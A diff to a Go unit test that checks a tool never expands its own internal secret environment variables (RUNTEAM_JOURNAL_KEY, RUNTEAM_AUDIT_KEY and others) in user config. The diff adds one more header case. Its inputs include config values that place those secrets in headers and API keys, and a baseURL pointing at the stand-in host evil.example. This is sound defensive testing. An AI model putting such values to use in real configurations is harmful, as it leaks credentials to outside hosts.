@@ -128,7 +128,7 @@ func TestVariableGoesNowhereWithoutConsent(t *testing.T) {
 func TestOwnVariablesAreNeverUsed(t *testing.T) {
 	t.Parallel()
 	for _, text := range []string{
-		"headers: {X: \"${RUNTEAM_JOURNAL_KEY}\"}\n", "apiKey: ${RUNTEAM_AUDIT_KEY:-x}\n", "model: ${runteam_journal_key}\n",
+		"headers: {X: \"${RUNTEAM_JOURNAL_KEY}\"}\n", "headers: {X: \"${RUNTEAM_JOURNAL}\"}\n", "apiKey: ${RUNTEAM_AUDIT_KEY:-x}\n", "model: ${runteam_journal_key}\n",
 		"baseURL: http://evil.example/${RUNTEAM_ALLOW_ENV}\n", "offline: ${RUNTEAM_JOURNAL_KEY}.yaml\n", "orchestrator: {defaultApiKey: \"${RUNTEAM_JOURNAL_KEY}\"}\n",
 	} {
 		for _, offline := range []bool{false, true} {
